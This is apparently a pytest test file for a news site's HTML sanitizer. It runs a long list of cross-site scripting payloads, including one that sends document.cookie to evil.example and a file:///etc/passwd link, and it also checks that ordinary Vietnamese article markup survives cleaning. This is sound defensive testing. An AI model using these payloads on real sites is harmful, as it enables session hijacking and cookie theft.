import html
import re
import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from newsroom.html import clean_html
from tests.factories import ArticleFactory

XSS_PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script type='text/javascript'>document.location='https://evil.example/?c='+document.cookie</script>",
    "<p>Hội nghị<script>alert('xss')</script> sơ kết</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",
    "<script/xss src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<body onload=alert(1)>",
    '<p onmouseover="alert(1)">Di chuột vào đây</p>',
    '<a href="https://example.vn" onclick="alert(1)">liên kết</a>',
    '<div onfocus="alert(1)" autofocus tabindex=0>x</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td onmouseenter=alert(1)>x</td></tr></table>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<h2 onpointerover=alert(1)>Tiêu đề</h2>",
    # dangerous URLs
    '<a href="javascript:alert(1)">bấm</a>',
    '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    '<a href="  javascript:alert(1)">bấm</a>',
    '<a href="jav&#x09;ascript:alert(1)">bấm</a>',
    '<a href="jav&#x0A;ascript:alert(1)">bấm</a>',
    '<a href="jav\tascript:alert(1)">bấm</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">bấm</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">bấm</a>',
    '<a href="javascript&colon;alert(1)">bấm</a>',
    '<a href="vbscript:msgbox(1)">bấm</a>',
    '<a href="VBScript:msgbox(1)">bấm</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">bấm</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<img src=`javascript:alert(1)`>",
    '<a href="file:///etc/passwd">tệp</a>',
    '<a href="\x01javascript:alert(1)">bấm</a>',
    # tags that must go entirely
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>gửi</button></form>',
    '<form><button formaction="javascript:alert(1)">gửi</button></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # style attributes
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    "<div style=\"background-image: url('javascript:alert(1)')\">x</div>",
    '<span style="behavior: url(xss.htc)">x</span>',
    # comments, CDATA, malformed markup
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>an toàn<!-- --><script>alert(1)</script></p>",
    '<a href="javascript:alert(1)"',
    "<img src=x onerror=alert(1)//",
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<a href="https://example.vn" title="x" onmouseover=alert(1) x=">">y</a>',
    "<div><p><img src=x onerror=alert(1)></div></p>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<a href="java\0script:alert(1)">bấm</a>',
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "form", "link", "meta", "base"}
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag


def parse(markup):
    collector = Collector()
    collector.feed(markup)
    collector.close()
    return collector


def url_scheme(value):
    """The scheme a browser would see: tabs and newlines anywhere and leading controls or spaces do not count."""
    value = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(0x21))))
    return urlsplit(value).scheme.lower()


def test_corpus_has_at_least_fifty_distinct_payloads():
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS) >= 50


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaned_payload_has_no_script_tag(payload):
    assert "<script" not in clean_html(payload).lower()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaned_payload_has_no_javascript_url(payload):
    assert "javascript:" not in html.unescape(clean_html(payload)).lower()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaned_payload_has_no_event_handler(payload):
    assert [name for _, name, _ in parse(clean_html(payload)).attributes if name.startswith("on")] == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaned_payload_has_only_safe_link_and_image_urls(payload):
    urls = [value for _, name, value in parse(clean_html(payload)).attributes if name in ("href", "src")]
    assert [url for url in urls if url_scheme(url) not in SAFE_SCHEMES] == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaned_payload_has_no_embedding_or_styling_tags(payload):
    assert FORBIDDEN_TAGS.isdisjoint(parse(clean_html(payload)).tags)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaned_payload_has_no_style_attribute(payload):
    assert [name for _, name, _ in parse(clean_html(payload)).attributes if name in ("style", "srcdoc")] == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaning_twice_changes_nothing(payload):
    once = clean_html(payload)
    assert clean_html(once) == once


# --- What the editor produces survives ---


def test_empty_body_stays_empty():
    assert clean_html("") == ""
    assert clean_html(None) == ""


def test_headings_survive():
    markup = "<h2>I. Kết quả</h2><h3>1. Công tác chính trị tư tưởng</h3><h4>a) Học tập Nghị quyết</h4>"
    assert clean_html(markup) == markup


def test_paragraph_formatting_survives():
    markup = "<p><strong>BDK.VN</strong> - Ngày 17-5-2023, <em>Đảng bộ Sở</em> tổ chức<br>Hội nghị <u>sơ kết</u>.</p>"
    assert clean_html(markup) == markup


def test_lists_survive():
    markup = '<ul><li>(1) Học tập</li><li>(2) Kết nạp</li></ul><ol start="3"><li>Thứ ba</li></ol>'
    assert clean_html(markup) == markup


def test_blockquote_survives():
    markup = "<blockquote><p>Trong sạch, vững mạnh tiêu biểu.</p></blockquote>"
    assert clean_html(markup) == markup


def test_link_keeps_its_address_and_gets_rel():
    cleaned = clean_html('<p><a href="https://baodongkhoi.vn/tin-tuc">Báo Đồng Khởi</a></p>')
    assert cleaned == '<p><a href="https://baodongkhoi.vn/tin-tuc" rel="noopener noreferrer">Báo Đồng Khởi</a></p>'


def test_link_with_target_blank_gets_rel_noopener():
    link = parse(clean_html('<a href="https://example.vn" target="_blank">x</a>')).attributes
    assert ("a", "rel", "noopener noreferrer") in link


def test_relative_mail_and_phone_links_survive():
    markup = (
        '<a href="/tin-tuc/hoi-nghi/">a</a><a href="mailto:vanphong@example.vn">b</a><a href="tel:02753822000">c</a>'
    )
    hrefs = [value for _, name, value in parse(clean_html(markup)).attributes if name == "href"]
    assert hrefs == ["/tin-tuc/hoi-nghi/", "mailto:vanphong@example.vn", "tel:02753822000"]


def test_table_survives():
    markup = (
        '<figure class="table"><table><thead><tr><th>Chi bộ</th><th>Xếp loại</th></tr></thead>'
        '<tbody><tr><td>Chi bộ 1</td><td colspan="2">Hoàn thành xuất sắc nhiệm vụ</td></tr></tbody></table></figure>'
    )
    assert clean_html(markup) == markup


def test_image_figure_with_caption_survives():
    markup = (
        '<figure class="image"><img src="/media/photos/2023/05/toan-canh.jpg" alt="Toàn cảnh Hội nghị">'
        "<figcaption>Toàn cảnh Hội nghị (Ảnh: Thiệu Phan)</figcaption></figure>"
    )
    assert clean_html(markup) == markup


def test_image_keeps_its_size_attributes():
    markup = '<img src="https://example.vn/a.jpg" alt="a" width="800" height="600">'
    assert clean_html(markup) == markup


def test_side_image_style_class_survives():
    markup = '<figure class="image image-style-side"><img src="/media/a.jpg" alt="a"></figure>'
    assert clean_html(markup) == markup


def test_unknown_classes_and_ids_are_dropped():
    assert clean_html('<p class="MsoNormal" id="x">Nội dung</p>') == "<p>Nội dung</p>"


def test_word_markup_is_reduced_to_text():
    cleaned = clean_html('<p class="MsoNormal"><span style="font-size:14pt"><o:p>Hội nghị</o:p></span></p>')
    assert cleaned == "<p><span>Hội nghị</span></p>"


def test_article_save_stores_sanitized_body(db):
    article = ArticleFactory(body='<p>Nội dung</p><img src="x" onerror="alert(1)"><script>alert(1)</script>')
    article.refresh_from_db()
    assert article.body == '<p>Nội dung</p><img src="x">'


def test_decomposed_text_comes_out_composed():
    assert clean_html(unicodedata.normalize("NFD", "<p>Hội nghị</p>")) == "<p>Hội nghị</p>"
